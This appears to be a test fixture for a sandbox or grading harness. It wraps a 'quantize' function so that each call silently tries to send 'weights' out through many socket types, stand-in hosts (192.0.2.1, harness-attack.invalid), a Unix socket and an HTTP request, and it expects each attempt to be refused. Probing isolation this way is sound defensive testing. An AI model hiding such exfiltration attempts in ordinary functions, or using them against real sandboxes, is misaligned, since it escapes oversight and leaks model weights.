# quantization: TCP, UDP, Unix, raw and netlink sockets, and names of the Internet
# refused PermissionError gaierror URLError
# grade 2.1a 2.1b 2.3a

import socket
import urllib.request

_quantize = quantize


def _send(family, kind, protocol, address):
    with socket.socket(family, kind, protocol) as one:
        one.settimeout(0.1)
        one.connect(address)
        one.send(b"weights")


def quantize(W, bits=8):
    for host in ("127.0.0.1", "192.0.2.1"):
        attempt(f"TCP to {host}", _send, socket.AF_INET, socket.SOCK_STREAM, 0, (host, 80))
        attempt(f"UDP to {host}", _send, socket.AF_INET, socket.SOCK_DGRAM, 0, (host, 53))
        attempt(f"raw to {host}", _send, socket.AF_INET, socket.SOCK_RAW, 1, (host, 0))
    attempt("IPv6", _send, socket.AF_INET6, socket.SOCK_STREAM, 0, ("::1", 80))
    attempt("Unix", _send, socket.AF_UNIX, socket.SOCK_STREAM, 0, "\0abstract")
    attempt("Unix by path", _send, socket.AF_UNIX, socket.SOCK_STREAM, 0, "/run/harness-attack.sock")
    attempt("netlink", socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, 0)
    attempt("packets", socket.socket, socket.AF_PACKET, socket.SOCK_RAW, 0)
    attempt("vsock", socket.socket, 40, socket.SOCK_STREAM, 0)
    attempt("the kernel's ciphers", socket.socket, 38, socket.SOCK_SEQPACKET, 0)
    attempt("listen", socket.create_server, ("127.0.0.1", 0))
    attempt("a name", socket.getaddrinfo, "harness-attack.invalid", 80)
    attempt("a page", urllib.request.urlopen, "http://127.0.0.1/?weights")
    return _quantize(W, bits)
